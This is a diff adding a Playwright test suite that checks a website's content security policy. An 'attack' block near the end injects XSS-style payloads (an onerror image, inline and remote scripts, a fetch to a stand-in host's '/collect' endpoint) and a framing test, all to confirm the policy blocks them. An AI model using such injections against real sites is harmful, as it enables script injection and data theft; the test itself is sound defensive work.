@@ -1,0 +1,113 @@
+import type {Page} from 'playwright/test';
+import {FakeAlgolia} from './algolia';
+import {hits, openSearch, searchInput} from './search';
+import {addresses, test as base, expect, hydrated, type Site} from './test';
+
+// The content security policy that the build wrote, in a browser. Every other test runs under it too: see `test.ts`.
+
+/** Opens pages that report what the policy stopped, as the browser's own event names it. */
+const test = base.extend<{violations: string[]; visit: (site: Site, address: string) => Promise<void>}>({
+  violations: async ({page}, use) => {
+    const violations: string[] = [];
+    await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
+    await page.addInitScript(() => {
+      document.addEventListener('securitypolicyviolation', (event) => {
+        (window as unknown as {reportViolation(text: string): void}).reportViolation(
+          `${location.pathname}: ${event.effectiveDirective} ${event.blockedURI} ${event.sample} at ${event.sourceFile}:${event.lineNumber}:${event.columnNumber}`,
+        );
+      });
+    });
+    await use(violations);
+  },
+  visit: async ({page, violations: _}, use) =>
+    use(async (site, address) => {
+      const response = await page.goto(site.url + address);
+      expect(response?.headers()['content-security-policy'], address).toContain("default-src 'none'");
+      await hydrated(page);
+    }),
+});
+
+async function useEverything(page: Page): Promise<void> {
+  await page.getByRole('button', {name: /^Switch between dark/}).click();
+  await openSearch(page);
+  await searchInput(page).fill('post');
+  await expect(hits(page).first()).toBeVisible();
+  await page.keyboard.press('Escape');
+  await page.getByRole('button', {name: 'English'}).click();
+  await page.keyboard.press('Escape');
+  const figure = page.getByRole('main').locator('figure a:has(> img):visible').first();
+  await figure.click();
+  await page.getByRole('button', {name: 'Close', exact: true}).last().click();
+  await page.getByRole('link', {name: 'Navigation', exact: true}).first().click();
+  await expect(page).toHaveTitle(/^Navigation \|/);
+  await page.setViewportSize({width: 390, height: 844});
+  await page.getByRole('button', {name: 'Toggle navigation bar'}).click();
+  await page.locator('.navbar-sidebar').getByRole('link', {name: 'Blog', exact: true}).click();
+  await expect(page).toHaveTitle(/^Blog \|/);
+}
+
+test('every page, and a page that is not there, loads under the policy and breaks nothing of it', async ({page, site, visit, violations}) => {
+  test.setTimeout(120_000);
+  for (const address of [...addresses(), '/search?q=garch', '/en/search?q=garch', '/nope', '/en/nope']) await visit(site, address);
+  await page.evaluate(() => new Promise(requestAnimationFrame));
+  expect(violations).toEqual([]);
+});
+
+test('a reader who uses everything breaks nothing of it, with embedded search', async ({page, site, visit, violations}) => {
+  await visit(site, '/en/blog/garch');
+  await useEverything(page);
+  expect(violations).toEqual([]);
+});
+
+test('a reader who uses everything breaks nothing of it, with hosted search', async ({page, fixtures, visit, violations}) => {
+  await FakeAlgolia.in(page);
+  await visit(fixtures, '/en/blog/garch');
+  await useEverything(page);
+  expect(violations).toEqual([]);
+});
+
+test('a figure opened alone keeps its colours', async ({page, site, visit, violations}) => {
+  await visit(site, '/en/blog/garch');
+  const figure = await page.getByRole('main').locator('figure a:has(> img)').first().getAttribute('href');
+  await page.goto(site.url + figure);
+  await page.evaluate(() => new Promise(requestAnimationFrame));
+  expect(violations).toEqual([]);
+  expect(
+    await page
+      .locator('text')
+      .first()
+      .evaluate((text) => getComputedStyle(text).fill),
+  ).not.toBe('rgb(0, 0, 0)');
+});
+
+test.describe('an attack', () => {
+  test.use({allowViolations: true});
+
+  test('what the site did not bring does not run, load or get data', async ({page, site, visit, violations}) => {
+    await visit(site, '/en/');
+    const ran = await page.evaluate(async (elsewhere) => {
+      const say = (text: string) => document.body.insertAdjacentHTML('beforeend', text);
+      say('<img src=x onerror="window.ran = 1">');
+      const inline = document.createElement('script');
+      inline.textContent = 'window.ran = 2';
+      document.body.append(inline);
+      const far = document.createElement('script');
+      far.src = `${elsewhere}/x.js`;
+      document.body.append(far);
+      await fetch(`${elsewhere}/collect`).catch(() => {});
+      say(`<img src="${elsewhere}/pixel.png"><iframe src="${elsewhere}/"></iframe><p style="color:red" id=probe>x</p>`);
+      await new Promise((resolve) => setTimeout(resolve, 200)); // for handlers that must not run
+      return [(window as unknown as {ran?: number}).ran, getComputedStyle(document.getElementById('probe') as Element).color === 'rgb(255, 0, 0)'];
+    }, 'https://elsewhere.example');
+    expect(ran).toEqual([undefined, false]);
+    const directives = new Set(violations.map((violation) => violation.split(' ')[1]));
+    expect([...directives].sort()).toEqual(['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-attr']);
+  });
+
+  test('no other site can show these pages in a frame', async ({page, site}) => {
+    await page.route('https://elsewhere.example/', (route) => route.fulfill({contentType: 'text/html', body: `<iframe src="${site.url}/en/"></iframe>`}));
+    await page.goto('https://elsewhere.example/');
+    await expect.poll(() => page.frames().length).toBe(2);
+    await expect(page.frameLocator('iframe').getByRole('main')).toHaveCount(0);
+  });
+});
